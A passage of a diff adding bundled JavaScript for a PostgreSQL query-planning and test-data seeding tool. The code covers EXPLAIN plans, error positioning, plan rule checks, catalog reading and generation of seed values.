+  JOIN pg_catalog.pg_class c ON c.oid = pg_catalog.to_regclass(candidate.name)
+  JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+  JOIN pg_catalog.pg_attribute a ON a.attrelid = c.oid AND a.attname = $2 AND a.attnum > 0 AND NOT a.attisdropped
+ ORDER BY candidate.position
+ LIMIT 1`;
+    TYPE_FALLBACK = `
+SELECT CASE base.typcategory
+         WHEN 'N' THEN '1'
+         WHEN 'B' THEN 'true'
+         WHEN 'S' THEN ''
+         WHEN 'D' THEN '2000-01-01 00:00:00+00'
+         WHEN 'T' THEN '1 day'
+         WHEN 'A' THEN '{}'
+         WHEN 'E' THEN (SELECT e.enumlabel::text FROM pg_catalog.pg_enum e WHERE e.enumtypid = base.oid ORDER BY e.enumsortorder LIMIT 1)
+       END AS fallback
+  FROM pg_catalog.pg_prepared_statements p,
+       unnest(p.parameter_types) WITH ORDINALITY AS parameter(type, position)
+  JOIN pg_catalog.pg_type t ON t.oid = parameter.type
+  JOIN pg_catalog.pg_type base ON base.oid = CASE WHEN t.typtype = 'd' THEN t.typbasetype ELSE t.oid END
+ WHERE p.name = $1
+ ORDER BY parameter.position`;
+  }
+});
+
+// src/explain/plan.ts
+async function planQuery(session, query, options) {
+  if (query.problem) return { status: "failed", message: query.problem.message };
+  if (!query.plannable) return { status: "skipped", reason: query.skipReason ?? "The statement is not a query EXPLAIN can plan." };
+  const parameters = query.parameters.length;
+  if (parameters > 0 && options.serverMajor < 12) {
+    return { status: "skipped", reason: "PostgreSQL before 12 has no plan_cache_mode, so a query with parameters cannot be given a generic plan." };
+  }
+  await loadParser();
+  try {
+    const state = await sessionState(session);
+    if (options.analyze) {
+      const analyzed2 = parameters === 0 ? { explain: await analyzePlain(session, query, state), params: void 0 } : await analyzeWithSamples(session, query, state);
+      if (analyzed2) return { status: "planned", explain: analyzed2.explain, generic: false, analyzed: true, ...analyzed2.params ? { params: analyzed2.params } : {} };
+    }
+    const plan = parameters === 0 ? estimate : options.serverMajor >= 16 ? genericPlan : forcedGenericPlan;
+    return { status: "planned", explain: await plan(session, query, state), generic: parameters > 0, analyzed: false };
+  } catch (error) {
+    if (error instanceof ProviderError) throw error;
+    return failure(session, error, options.analyze ?? false);
+  }
+}
+async function sessionState(session) {
+  const [before] = await session.query(TRANSACTION_ID);
+  const [now] = await session.query(
+    `SELECT l.id, pg_catalog.current_setting('plan_cache_mode', true) AS mode FROM (${TRANSACTION_ID}) AS l`
+  );
+  return { inTransaction: before !== void 0 && before.id === now?.id, planCacheMode: now?.mode ?? null };
+}
+async function estimate(session, query, state) {
+  return rolledBack(
+    session,
+    state.inTransaction ? "savepoint" : void 0,
+    async () => parseExplain(await located(query, `${ESTIMATE} ${query.sql}`, () => session.query(`${ESTIMATE} ${query.sql}`)))
+  );
+}
+async function genericPlan(session, query, state) {
+  const body = [
+    "DECLARE plan text; BEGIN",
+    `EXECUTE ${literal(`PREPARE ${NAME} AS ${query.sql}`)}; EXECUTE 'DEALLOCATE ${NAME}';`,
+    `EXECUTE ${literal(`${GENERIC} ${query.sql}`)} INTO plan;`,
+    `PERFORM pg_catalog.set_config('${HANDOFF}', plan, false); END`
+  ].join(" ");
+  return rolledBack(session, state.inTransaction ? "savepoint" : void 0, async () => {
+    await located(query, void 0, () => session.exec(`DO ${dollarQuoted(body)}`));
+    const [row] = await session.query(
+      `SELECT stored.plan, pg_catalog.set_config('${HANDOFF}', '', false) FROM (SELECT pg_catalog.current_setting('${HANDOFF}') AS plan OFFSET 0) AS stored`
+    );
+    return parseExplain(row.plan);
+  });
+}
+async function forcedGenericPlan(session, query, state) {
+  let forced = false;
+  try {
+    return await withPrepared(
+      session,
+      query,
+      (prepare2) => rolledBack(session, state.inTransaction ? "savepoint" : void 0, async () => {
+        await prepare2();
+        await session.exec("SET plan_cache_mode = force_generic_plan");
+        forced = true;
+        const nulls = query.parameters.map(() => "NULL").join(", ");
+        const explain = parseExplain(await located(query, void 0, () => session.query(`${ESTIMATE} EXECUTE ${NAME}(${nulls})`)));
+        if (explain.Settings) delete explain.Settings.plan_cache_mode;
+        return explain;
+      })
+    );
+  } finally {
+    if (forced && !state.inTransaction) await session.query("SELECT pg_catalog.set_config('plan_cache_mode', $1, false)", [state.planCacheMode]);
+  }
+}
+async function analyzePlain(session, query, state) {
+  return rolledBack(
+    session,
+    state.inTransaction ? "savepoint" : "transaction",
+    async () => parseExplain(await located(query, `${ANALYZE} ${query.sql}`, () => session.query(`${ANALYZE} ${query.sql}`)))
+  );
+}
+async function analyzeWithSamples(session, query, state) {
+  return withPrepared(
+    session,
+    query,
+    (prepare2) => rolledBack(session, state.inTransaction ? "savepoint" : "transaction", async () => {
+      await prepare2();
+      const params = await sampleParameters(session, query.sql, NAME);
+      const values = params.map((value) => value === null ? "NULL" : literal(value)).join(", ");
+      try {
+        const explain = parseExplain(await located(query, void 0, () => session.query(`${ANALYZE} EXECUTE ${NAME}(${values})`)));
+        return { explain, params };
+      } catch (error) {
+        if (error instanceof QueryFailure && SAMPLE_REJECTED.has(error.code?.slice(0, 2) ?? "")) return void 0;
+        throw error;
+      }
+    })
+  );
+}
+async function withPrepared(session, query, work) {
+  let prepared = false;
+  try {
+    return await work(async () => {
+      const prepare2 = `PREPARE ${NAME} AS ${query.sql}`;
+      await located(query, prepare2, () => session.exec(prepare2));
+      prepared = true;
+    });
+  } finally {
+    if (prepared) await session.exec(`DEALLOCATE ${NAME}`);
+  }
+}
+async function rolledBack(session, scope, work) {
+  if (scope) await session.exec(scope === "transaction" ? "BEGIN" : `SAVEPOINT ${NAME}`);
+  try {
+    return await work();
+  } finally {
+    if (scope) await session.exec(scope === "transaction" ? "ROLLBACK" : `ROLLBACK TO SAVEPOINT ${NAME}; RELEASE SAVEPOINT ${NAME}`);
+  }
+}
+async function located(query, sent, run3) {
+  try {
+    return await run3();
+  } catch (error) {
+    if (error instanceof ProviderError || !(error instanceof Error)) throw error;
+    const { code, hint, position, internalPosition, internalQuery } = error;
+    let message = hint ? `${error.message}. ${hint}` : error.message;
+    let at = internalQuery !== void 0 && internalPosition !== void 0 ? positionIn(query.sql, internalQuery, Number(internalPosition)) : void 0;
+    if (at === void 0 && sent !== void 0 && position !== void 0) at = positionIn(query.sql, sent, Number(position));
+    const untyped = code === INDETERMINATE_DATATYPE ? /parameter \$(\d+)/.exec(error.message) : null;
+    if (untyped) {
+      const n = Number(untyped[1]);
+      message = untypedMessage(query, n);
+      at ??= parameterLocation(query.sql, n);
+    }
+    throw new QueryFailure(message, code, at);
+  }
+}
+function positionIn(sql, text2, position) {
+  if (!text2.endsWith(sql)) return void 0;
+  const chars = position - 1 - [...text2.slice(0, text2.length - sql.length)].length;
+  const points = [...sql];
+  if (chars < 0 || chars > points.length) return void 0;
+  return Buffer.byteLength(points.slice(0, chars).join(""), "utf8");
+}
+function untypedMessage(query, n) {
+  const name = query.parameters[n - 1]?.name;
+  const shown = name ? `@${name} ($${n})` : `$${n}`;
+  return `PostgreSQL cannot infer the type of parameter ${shown} from the query: add a cast where it is used, such as ${name ? `@${name}` : `$${n}`}::<type>.`;
+}
+async function failure(session, error, analyze) {
+  const code = error.code;
+  let message = describe2(error);
+  if (code === QUERY_CANCELED) {
+    const [row] = await session.query("SELECT pg_catalog.current_setting('statement_timeout') AS timeout");
+    message = `${analyze ? "Running" : "Planning"} the query took longer than the statement timeout (${row.timeout}), so PostgreSQL canceled it.`;
+  }
+  const position = error instanceof QueryFailure ? error.position : void 0;
+  return { status: "failed", message, ...typeof code === "string" ? { code } : {}, ...position !== void 0 ? { position } : {} };
+}
+function literal(value) {
+  return `E'${value.replace(/\\/g, "\\\\").replace(/'/g, "''")}'`;
+}
+function dollarQuoted(text2) {
+  let tag = "$plan$";
+  for (let n = 1; text2.includes(tag); n++) tag = `$plan${n}$`;
+  return `${tag}${text2}${tag}`;
+}
+var ESTIMATE, GENERIC, ANALYZE, NAME, HANDOFF, TRANSACTION_ID, SAMPLE_REJECTED, QueryFailure, INDETERMINATE_DATATYPE;
+var init_plan = __esm({
+  "src/explain/plan.ts"() {
+    "use strict";
+    init_parse();
+    init_provider();
+    init_model();
+    init_params();
+    ESTIMATE = "EXPLAIN (VERBOSE, SETTINGS, FORMAT JSON)";
+    GENERIC = "EXPLAIN (GENERIC_PLAN, VERBOSE, SETTINGS, FORMAT JSON)";
+    ANALYZE = "EXPLAIN (ANALYZE, BUFFERS, VERBOSE, SETTINGS, FORMAT JSON)";
+    NAME = "sql_preflight_plan";
+    HANDOFF = "sql_preflight.plan";
+    TRANSACTION_ID = "SELECT l.virtualtransaction AS id FROM pg_catalog.pg_locks l WHERE l.pid = pg_catalog.pg_backend_pid() AND l.locktype = 'virtualxid'";
+    SAMPLE_REJECTED = /* @__PURE__ */ new Set(["22", "23"]);
+    QueryFailure = class extends Error {
+      constructor(message, code, position) {
+        super(message);
+        this.code = code;
+        this.position = position;
+      }
+      code;
+      position;
+    };
+    INDETERMINATE_DATATYPE = "42P18";
+  }
+});
+
+// src/explain/index.ts
+var init_explain = __esm({
+  "src/explain/index.ts"() {
+    "use strict";
+    init_advise();
+    init_compare();
+    init_plan();
+  }
+});
+
+// src/plan/check.ts
+function checkPlan(explain, rules2, options = {}) {
+  const nodes = walkPlan(explain.Plan);
+  const order = new Map(nodes.map((visit, i) => [visit.node, i]));
+  const found = [];
+  for (const rule of rules2) {
+    if (!isPlanRule(rule)) continue;
+    const setting = options.ruleSettings?.[rule.meta.id];
+    const severity = setting?.severity ?? rule.meta.severity;
+    if (severity === "off") continue;
+    rule.check(explain, {
+      options: { ...rule.meta.defaultOptions, ...setting?.options },
+      nodes,
+      tableRows(node) {
+        const name = node["Relation Name"];
+        return name === void 0 ? void 0 : options.tableRows?.({ schema: node.Schema, name });
+      },
+      report(descriptor) {
+        found.push({
+          position: order.get(descriptor.node) ?? nodes.length,
+          finding: {
+            ruleId: rule.meta.id,
+            severity,
+            message: descriptor.message,
+            help: descriptor.help ?? rule.meta.safeAlternative,
+            docsUrl: rule.meta.docsUrl,
+            evidence: {
+              plan: { node: nodeLabel(descriptor.node), lines: planExcerpt(descriptor.node, descriptor.quote ?? []) },
+              ...descriptor.evidence
+            }
+          }
+        });
+      }
+    });
+  }
+  return found.sort((a, b) => a.position - b.position).map((f) => f.finding);
+}
+var init_check = __esm({
+  "src/plan/check.ts"() {
+    "use strict";
+    init_rule();
+    init_text2();
+    init_walk();
+  }
+});
+
+// src/plan/index.ts
+var init_plan2 = __esm({
+  "src/plan/index.ts"() {
+    "use strict";
+    init_check();
+    init_model();
+    init_text2();
+    init_walk();
+  }
+});
+
+// src/core/progress.ts
+var silentProgress;
+var init_progress = __esm({
+  "src/core/progress.ts"() {
+    "use strict";
+    silentProgress = {
+      phase: (_name, work) => work(),
+      step: () => {
+      },
+      note: () => {
+      }
+    };
+  }
+});
+
+// src/seed/catalog.ts
+async function readCatalog(session) {
+  const rows2 = await session.query(USER_RELATIONS2);
+  const relations = /* @__PURE__ */ new Map();
+  for (const row of rows2) {
+    relations.set(row.oid, {
+      oid: row.oid,
+      name: `${row.schema}.${row.name}`,
+      shortName: row.name,
+      sql: row.sql,
+      kind: KINDS[row.relkind],
+      partition: row.partition,
+      hasRows: false,
+      columns: [],
+      uniques: [],
+      foreignKeys: [],
+      checks: [],
+      beforeInsertTriggers: false
+    });
+  }
+  const types = /* @__PURE__ */ new Map();
+  if (relations.size === 0) return { relations: [], types };
+  const oids = oidArray2(relations.keys());
+  const columns = await session.query(
+    `SELECT a.attrelid::int8 AS rel, a.attnum::int4 AS num, a.attname::text AS name, quote_ident(a.attname) AS sql,
+            a.atttypid::int8 AS type, a.atttypmod AS typmod, format_type(a.atttypid, a.atttypmod) AS sqltype,
+            a.attnotnull AS notnull, a.attidentity::text AS identity, a.attgenerated::text AS generated,
+            pg_get_expr(d.adbin, d.adrelid) AS default
+       FROM pg_attribute a LEFT JOIN pg_attrdef d ON d.adrelid = a.attrelid AND d.adnum = a.attnum
+      WHERE a.attrelid = ANY($1::oid[]) AND a.attnum > 0 AND NOT a.attisdropped
+      ORDER BY a.attrelid, a.attnum`,
+    [oids]
+  );
+  await loadTypes(session, new Set(columns.map((c) => c.type)), types);
+  for (const c of columns) {
+    const filledBy = c.generated ? "generated" : c.identity ? "identity" : c.default !== null ? "default" : "nothing";
+    relations.get(c.rel).columns.push({
+      num: c.num,
+      name: c.name,
+      sql: c.sql,
+      type: types.get(c.type),
+      typmod: c.typmod,
+      sqlType: c.sqltype,
+      notNull: c.notnull,
+      filledBy,
+      ...c.default !== null && !c.generated ? { default: c.default } : {}
+    });
+  }
+  const constraints = await session.query(
+    `SELECT conrelid::int8 AS rel, conname::text AS name, contype::text AS type, conkey::int4[] AS columns,
+            confrelid::int8 AS parent, confkey::int4[] AS parentcolumns,
+            CASE WHEN contype = 'c' THEN pg_get_expr(conbin, conrelid) END AS expr
+       FROM pg_constraint
+      WHERE conrelid = ANY($1::oid[]) AND contype IN ('c', 'f') AND conparentid = 0
+      ORDER BY conrelid, conname`,
+    [oids]
+  );
+  for (const c of constraints) {
+    const relation = relations.get(c.rel);
+    if (c.type === "f") relation.foreignKeys.push({ name: c.name, columns: c.columns, parent: c.parent, parentColumns: c.parentcolumns ?? [] });
+    else relation.checks.push({ name: c.name, expr: c.expr, columns: c.columns ?? [] });
+  }
+  const indexes = await session.query(
+    `SELECT i.indrelid::int8 AS rel, (string_to_array(i.indkey::text, ' ')::int4[])[1:i.indnkeyatts] AS key,
+            (SELECT array_agg(DISTINCT d.refobjsubid)::int4[] FROM pg_depend d
+              WHERE d.classid = 'pg_class'::regclass AND d.objid = i.indexrelid
+                AND d.refobjid = i.indrelid AND d.refobjsubid > 0) AS used,
+            NOT i.indimmediate AS deferrable
+       FROM pg_index i
+      WHERE i.indrelid = ANY($1::oid[]) AND (i.indisunique OR i.indisexclusion)
+      ORDER BY i.indrelid, i.indisprimary DESC, i.indexrelid`,
+    [oids]
+  );
+  for (const index of indexes) {
+    const columns2 = index.key.includes(0) ? index.used ?? [] : index.key;
+    relations.get(index.rel).uniques.push({ columns: columns2, deferrable: index.deferrable });
+  }
+  const triggers = await session.query(
+    // tgtype bits: 1 row-level, 2 BEFORE, 4 INSERT.
+    `SELECT DISTINCT tgrelid::int8 AS rel FROM pg_trigger
+      WHERE tgrelid = ANY($1::oid[]) AND NOT tgisinternal AND tgenabled <> 'D' AND (tgtype & 7) = 7`,
+    [oids]
+  );
+  for (const t of triggers) relations.get(t.rel).beforeInsertTriggers = true;
+  await readPartitioning(session, [...relations.values()].filter((r) => r.kind === "partitioned" && !r.partition));
+  const tables = [...relations.values()].filter((r) => (r.kind === "table" || r.kind === "partitioned") && !r.partition);
+  if (tables.length > 0) {
+    const [filled] = await session.query(
+      `SELECT ARRAY[${tables.map((t) => `EXISTS (SELECT 1 FROM ${t.sql})`).join(", ")}] AS filled`
+    );
+    tables.forEach((t, i) => t.hasRows = filled.filled[i]);
+  }
+  return { relations: [...relations.values()], types };
+}
+async function readPartitioning(session, parents) {
+  for (const parent of parents) {
+    const tree = await session.query(
+      `SELECT t.relid::int8 AS relid, t.parentrelid::int8 AS parent, t.isleaf AS leaf, c.relkind::text AS relkind,
+              pg_get_expr(c.relpartbound, c.oid) AS bound,
+              CASE WHEN t.isleaf THEN pg_get_partition_constraintdef(t.relid) END AS constraint,
+              (SELECT array_agg(a.attname::text) FROM pg_partitioned_table p JOIN pg_attribute a
+                  ON a.attrelid = p.partrelid AND a.attnum = ANY (p.partattrs::int2[])
+                WHERE p.partrelid = t.relid) AS key
+         FROM pg_partition_tree($1::regclass) t JOIN pg_class c ON c.oid = t.relid
+        ORDER BY t.level, t.relid`,
+      [parent.oid]
+    );
+    const [strategy] = await session.query(
+      `SELECT partstrat::text AS strategy, string_to_array(partattrs::text, ' ')::int4[] AS key
+         FROM pg_partitioned_table WHERE partrelid = $1::oid`,
+      [parent.oid]
+    );
+    const children = tree.filter((t) => t.parent === parent.oid);
+    const usable = tree.filter((t) => t.leaf && t.relkind !== "f");
+    parent.partitioning = {
+      strategy: strategy.strategy === "r" ? "range" : strategy.strategy === "l" ? "list" : "hash",
+      key: strategy.key,
+      routedColumns: new Set(tree.flatMap((t) => t.key ?? [])),
+      bounds: children.map((c) => c.bound ?? ""),
+      leafConstraints: usable.map((t) => t.constraint ?? "true"),
+      defaultLeaf: children.some((c) => c.bound === "DEFAULT" && c.leaf && c.relkind !== "f")
+    };
+  }
+}
+async function loadTypes(session, wanted, types) {
+  let missing = [...wanted].filter((oid) => !types.has(oid));
+  while (missing.length > 0) {
+    const rows2 = await session.query(
+      `SELECT t.oid::int8 AS oid, t.typname::text AS name, n.nspname::text AS schema, format_type(t.oid, NULL) AS sql,
+              t.typcategory::text AS category,
+              CASE WHEN t.typcategory = 'A' AND t.typelem <> 0 THEN t.typelem::int8 END AS element,
+              CASE WHEN t.typtype = 'd' THEN t.typbasetype::int8 END AS base, t.typtypmod AS basetypmod,
+              CASE WHEN t.typtype = 'd' THEN format_type(t.typbasetype, t.typtypmod) END AS basesql,
+              t.typnotnull AS domainnotnull,
+              (SELECT array_agg(pg_get_expr(c.conbin, 0) ORDER BY c.conname) FROM pg_constraint c
+                WHERE c.contypid = t.oid AND c.contype = 'c') AS checks,
+              (SELECT array_agg(quote_literal(e.enumlabel) ORDER BY e.enumsortorder) FROM pg_enum e
+                WHERE e.enumtypid = t.oid) AS labels,
+              CASE WHEN t.typtype = 'c' THEN t.typrelid::int8 END AS relid,
+              (SELECT r.rngsubtype::int8 FROM pg_range r WHERE r.rngtypid = t.oid) AS subtype
+         FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
+        WHERE t.oid = ANY($1::oid[])`,
+      [oidArray2(missing)]
+    );
+    const relids = rows2.filter((r) => r.relid !== null).map((r) => r.relid);
+    const fields = relids.length === 0 ? [] : await session.query(
+      `SELECT attrelid::int8 AS rel, quote_ident(attname) AS sql, atttypid::int8 AS type, atttypmod AS typmod
+         FROM pg_attribute WHERE attrelid = ANY($1::oid[]) AND attnum > 0 AND NOT attisdropped
+        ORDER BY attrelid, attnum`,
+      [oidArray2(relids)]
+    );
+    const next = /* @__PURE__ */ new Set();
+    for (const row of rows2) {
+      const info = { oid: row.oid, name: row.name, schema: row.schema, sql: row.sql, category: row.category };
+      if (row.element !== null) info.element = row.element;
+      if (row.base !== null) {
+        info.base = row.base;
+        info.baseSql = row.basesql;
+        info.baseTypmod = row.basetypmod;
+        info.domainNotNull = row.domainnotnull;
+        info.domainChecks = row.checks ?? [];
+      }
+      if (row.labels) info.labels = row.labels;
+      if (row.subtype !== null) info.subtype = row.subtype;
+      if (row.relid !== null) info.fields = fields.filter((f) => f.rel === row.relid).map(({ sql, type, typmod }) => ({ sql, type, typmod }));
+      types.set(row.oid, info);
+      for (const oid of [info.element, info.base, info.subtype, ...(info.fields ?? []).map((f) => f.type)]) {
+        if (oid !== void 0 && !types.has(oid)) next.add(oid);
+      }
+    }
+    missing = [...next];
+  }
+}
+function oidArray2(oids) {
+  return `{${[...oids].join(",")}}`;
+}
+var USER_RELATIONS2, KINDS;
+var init_catalog2 = __esm({
+  "src/seed/catalog.ts"() {
+    "use strict";
+    USER_RELATIONS2 = `
+  SELECT c.oid::int8 AS oid, n.nspname AS schema, c.relname AS name,
+         quote_ident(n.nspname) || '.' || quote_ident(c.relname) AS sql, c.relkind::text AS relkind,
+         c.relispartition AS partition
+    FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
+   WHERE c.relkind IN ('r', 'p', 'v', 'm', 'f') AND c.relpersistence <> 't'
+     AND n.nspname <> 'information_schema' AND n.nspname !~ '^pg_'
+     AND NOT EXISTS (SELECT 1 FROM pg_depend d
+                      WHERE d.classid = 'pg_class'::regclass AND d.objid = c.oid AND d.deptype = 'e')
+   ORDER BY n.nspname, c.relname`;
+    KINDS = { r: "table", p: "partitioned", v: "view", m: "matview", f: "foreign" };
+  }
+});
+
+// src/seed/values.ts
+function pick(n, salt, skew, of = ROW) {
+  return skew ? `floor(${n} * power(${unit(salt, of)}, 3))::int8` : below(n, salt, of);
+}
+function nullsPerMille(name) {
+  return /^(deleted|archived|removed|cancell?ed|banned|disabled|revoked)(_at|_on)?$/.test(name) ? 950 : 100;
+}
+function columnValue2(column, want, salt, context) {
+  const type = column.type.base !== void 0 ? baseOf(column.type, context.types) : { type: column.type, typmod: column.typmod };
+  if (want.hints.values && want.hints.values.length > 0) return fromList(want.hints.values, want, salt, context);
+  return valueOf(type.type, type.typmod, want, salt, context, 0);
+}
+function baseOf(type, types) {
+  const chain = [];
+  let current = type;
+  let typmod = -1;
+  while (current.base !== void 0) {
+    chain.push(current);
+    if (typmod < 0) typmod = current.baseTypmod ?? -1;
+    current = types.get(current.base);
+  }
+  return { type: current, typmod, chain };
+}
+function fromList(values, want, salt, context) {
+  const list = `(ARRAY[${values.join(", ")}])`;
+  if (want.unique) return { expr: `${list}[${ROW}]`, capacity: values.length };
+  return { expr: `${list}[1 + ${pick(values.length, salt("pick"), context.skew)}]`, capacity: Infinity };
+}
+function valueOf(type, typmod, want, salt, context, depth) {
+  if (type.base !== void 0) {
+    const base = baseOf(type, context.types);
+    const inner = valueOf(base.type, base.typmod, want, salt, context, depth + 1);
+    return "expr" in inner ? { ...inner, expr: `(${inner.expr})::${type.sql}` } : inner;
+  }
+  if (type.labels) return fromList(type.labels.map((l) => `${l}::${type.sql}`), want, salt, context);
+  if (type.element !== void 0) {
+    const element = context.types.get(type.element);
+    const item = (i) => valueOf(element, typmod, { ...want, unique: want.unique && i === 0, hints: {} }, (p) => salt(`${p}[${i}]`), context, depth + 1);
+    const first = item(0);
+    if (!("expr" in first)) return first;
+    if (want.unique) return { expr: `ARRAY[${first.expr}]`, capacity: first.capacity };
+    const rest = [1, 2].map((i) => item(i).expr);
+    return { expr: `(ARRAY[${[first.expr, ...rest].join(", ")}])[1:${below(4, salt("length"))}]`, capacity: Infinity };
+  }
+  if (type.fields) {
+    if (depth > 3) return { unsupported: `${type.sql} (nested too deep)` };
+    const fields = [];
+    for (const [i, field] of type.fields.entries()) {
+      const value = valueOf(context.types.get(field.type), field.typmod, { ...want, unique: want.unique && i === 0, hints: {}, name: field.sql }, (p) => salt(`${p}.${i}`), context, depth + 1);
+      if (!("expr" in value)) return value;
+      fields.push(value.expr);
+    }
+    return { expr: `ROW(${fields.join(", ")})::${type.sql}`, capacity: Infinity };
+  }
+  if (type.subtype !== void 0) {
+    const subtype = context.types.get(type.subtype);
+    const a = valueOf(subtype, -1, { ...want, hints: {} }, (p) => salt(`${p}.lower`), context, depth + 1);
+    const b = valueOf(subtype, -1, { ...want, unique: false, hints: {} }, (p) => salt(`${p}.upper`), context, depth + 1);
+    if (!("expr" in a) || !("expr" in b)) return { unsupported: type.sql };
+    if (want.unique) return { expr: `${type.sql}(${a.expr}, ${a.expr}, '[]')`, capacity: a.capacity };
+    return { expr: `${type.sql}(least(${a.expr}, ${b.expr}), greatest(${a.expr}, ${b.expr}))`, capacity: Infinity };
+  }
+  const builtin = type.schema === "pg_catalog" ? BUILTIN[type.name] : void 0;
+  if (builtin) return builtin(typmod, want, salt, context);
+  if (type.category === "S") return text(void 0, want, salt, context);
+  return { unsupported: type.sql };
+}
+function integerBounds(hints, min, max) {
+  const lo = hints.min === void 0 ? min : Math.max(min, hints.minExclusive ? Math.floor(hints.min) + 1 : Math.ceil(hints.min));
+  const hi = hints.max === void 0 ? max : Math.min(max, hints.maxExclusive ? Math.ceil(hints.max) - 1 : Math.floor(hints.max));
+  return { lo, hi };
+}
+function timeSpan(context) {
+  const end2 = Date.parse(`${context.today}T00:00:00Z`);
+  return { start: new Date(end2 - SPAN_DAYS * 864e5).toISOString().slice(0, 10), days: SPAN_DAYS };
+}
+function point(salt, purpose, unique4) {
+  return unique4 ? `point(${ROW}, ${unit(salt(`${purpose}.y`))} * 180 - 90)` : `point(${unit(salt(`${purpose}.x`))} * 360 - 180, ${unit(salt(`${purpose}.y`))} * 180 - 90)`;
+}
+function jsonObject(kind, salt) {
+  return `${kind}_build_object('id', ${ROW}, 'name', ${word(salt("json"), 0)}, 'score', ${below(100, salt("score"))}, 'tags', ${kind}_build_array(${word(salt("json"), 1)}, ${word(salt("json"), 2)}), 'active', ((${hash(salt("active"))} & 1) = 0))`;
+}
+function word(salt, k) {
+  return `(${WORDS_SQL})[1 + ((${hash(salt)} >> ${6 * k}) & 63)]`;
+}
+function choose(list, salt, skew) {
+  return `(${arrayLiteral(list)})[1 + ${pick(list.length, salt, skew)}]`;
+}
+function sentence(salt, unique4) {
+  const h = hash(salt("sentence"));
+  const phrase = (list) => `(${PHRASES[list]})[1 + ((${h} >> ${6 * list}) & 63)]`;
+  const body = `${phrase(0)} || ' ' || ${phrase(1)} || CASE WHEN ((${h} >> 18) & 1) = 0 THEN ' ' || ${phrase(2)} ELSE '' END`;
+  return unique4 ? `(${body} || ' ' || ${ROW} || '.')` : `(${body} || '.')`;
+}
+function unique3(expr, isUnique) {
+  return isUnique ? `${expr} || ' ' || ${ROW}` : expr;
+}
+function text(maxLength, want, salt, context) {
+  const kind = TEXT_KINDS.find(([pattern]) => pattern.test(want.name))?.[1];
+  let expr = kind ? kind(salt, want.unique, context) : unique3(`${word(salt("words"), 0)} || ' ' || ${word(salt("words"), 1)}`, want.unique);
+  const limit = Math.min(maxLength ?? Infinity, want.hints.maxLength ?? Infinity);
+  let capacity = Infinity;
+  if (Number.isFinite(limit)) {
+    expr = want.unique ? `right(${expr}, ${limit})` : `left(${expr}, ${limit})`;
+    if (want.unique) capacity = limit >= 15 ? Infinity : 10 ** limit - 1;
+  }
+  if (want.hints.minLength) expr = `rpad(${expr}, ${want.hints.minLength}, 'x')`;
+  return { expr, capacity };
+}
+var ROW, SPAN_DAYS, MAX_SAFE, hash, below, unit, integer, numeric, float, bytes16, MONOTONIC, timestamp, date, time, BUILTIN, WORDS, FIRST_NAMES, LAST_NAMES, CITIES, COUNTRIES, CURRENCIES, LOCALES, STATUSES, arrayLiteral, WORDS_SQL, PHRASES, suffix, TEXT_KINDS;
+var init_values = __esm({
+  "src/seed/values.ts"() {
+    "use strict";
+    ROW = "sp.g";
+    SPAN_DAYS = 3 * 365;
+    MAX_SAFE = Number.MAX_SAFE_INTEGER;
+    hash = (salt, of = ROW) => `hashint8extended(${of}, ${salt})`;
+    below = (n, salt, of = ROW) => `((${hash(salt, of)} & 9223372036854775807) % ${n})`;
+    unit = (salt, of = ROW) => `((${hash(salt, of)} & 4503599627370495)::float8 / 4503599627370496)`;
+    integer = (min, max, span) => (_typmod, want, salt) => {
+      const { lo, hi } = integerBounds(want.hints, min, max);
+      if (want.unique) {
+        const start = Math.max(lo, Math.min(1, hi));
+        return { expr: `(${start - 1} + ${ROW})`, capacity: hi - start + 1 };
+      }
+      const from = want.hints.min !== void 0 ? lo : Math.max(lo, hi >= 0 ? 0 : hi - span + 1);
+      const to = Math.min(hi, from + span - 1);
+      return { expr: `(${from} + ${below(Math.max(1, to - from + 1), salt("int"))})`, capacity: Infinity };
+    };
+    numeric = (typmod, want, salt) => {
+      const precision2 = typmod >= 4 ? typmod - 4 >> 16 & 65535 : void 0;
+      const scale = typmod >= 4 ? Math.max(0, Math.min(typmod - 4 & 2047, precision2)) : 2;
+      const step = 10 ** -scale;
+      const typeMax = precision2 === void 0 ? MAX_SAFE : 10 ** (precision2 - scale) - step;
+      const lo = Math.max(-typeMax, want.hints.min === void 0 ? -typeMax : want.hints.min + (want.hints.minExclusive ? step : 0));
+      const hi = Math.min(typeMax, want.hints.max === void 0 ? typeMax : want.hints.max - (want.hints.maxExclusive ? step : 0));
+      if (want.unique) {
+        const unitStep = precision2 === void 0 || precision2 - scale >= 1 ? 1 : step;
+        const start = Math.max(lo, Math.min(unitStep, hi));
+        return { expr: `(${start} + (${ROW} - 1) * ${unitStep}::numeric)`, capacity: Math.floor((hi - start) / unitStep) + 1 };
+      }
+      const from = want.hints.min !== void 0 ? lo : Math.max(lo, hi >= 0 ? 0 : hi - 1e4);
+      const to = Math.min(hi, from + 1e4);
+      const [first, last] = [Math.ceil(from / step - 1e-9), Math.floor(to / step + 1e-9)];
+      const steps = `(${first} + ${below(Math.max(1, last - first + 1), salt("numeric"))})::numeric`;
+      return { expr: scale === 0 ? steps : `(${steps} * ${step.toFixed(scale)})`, capacity: Infinity };
+    };
+    float = (_typmod, want, salt) => {
+      if (want.unique) return { expr: `(${want.hints.min ?? 0} + ${ROW})::float8`, capacity: Infinity };
+      const from = want.hints.min ?? (want.hints.max !== void 0 && want.hints.max < 0 ? want.hints.max - 1e3 : 0);
+      const to = want.hints.max ?? from + 1e3;
+      return { expr: `(${from} + ${unit(salt("float"))} * ${to - from})`, capacity: Infinity };
+    };
+    bytes16 = (salt, purpose) => `(int8send(${hash(salt(`${purpose}.0`))}) || int8send(${hash(salt(`${purpose}.1`))}))`;
+    MONOTONIC = /^(created|inserted|added|registered|occurred|recorded|logged|received|sent)(_at|_on|_date|_time)?$/;
+    timestamp = (literal2) => (_typmod, want, salt, context) => {
+      const { start, days } = timeSpan(context);
+      const from = literal2(start);
+      if (want.unique) {
+        const step = Math.max(1, Math.floor(days * 86400 / Math.max(1, want.rows)));
+        return { expr: `(${from} + (${ROW} - 1) * INTERVAL '${step} seconds')`, capacity: Infinity };
+      }
+      if (MONOTONIC.test(want.name)) {
+        return { expr: `(${from} + ((${ROW} - 1 + ${unit(salt("jitter"))}) / ${Math.max(1, want.rows)}) * INTERVAL '${days} days')`, capacity: Infinity };
+      }
+      return { expr: `(${from} + ${unit(salt("time"))} * INTERVAL '${days} days')`, capacity: Infinity };
+    };
+    date = (_typmod, want, salt, context) => {
